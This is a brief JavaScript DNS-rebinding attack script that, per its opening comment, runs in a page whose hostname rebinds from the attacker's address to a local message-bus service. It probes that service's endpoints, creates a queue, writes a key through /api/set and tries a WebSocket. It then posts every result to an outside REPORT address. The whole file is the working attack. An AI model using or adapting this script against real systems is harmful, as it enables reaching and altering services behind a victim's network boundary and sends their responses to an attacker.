// Runs in a page of a name that is the attacker's address, and from the first line on the bus's.

async function take() {
  const told = {};
  for (const path of ["/", "/metrics", "/health", "/?cmd=query", "/api/v1/pget/%23", "/?cmd=create&mq=Rebound"]) {
    told[`GET ${path}`] = await fetch(path).then(answer => answer.status, String);
  }
  const body = new URLSearchParams({"k/rebound": "1"});
  told["POST /api/set"] = await fetch("/api/set", {method: "POST", body}).then(answer => answer.status, String);
  told.socket = await new Promise(resolve => {
    const socket = new WebSocket(`ws://${location.host}/ws`);
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  });
  return told;
}

take().then(told => fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify({[location.port]: told})}));
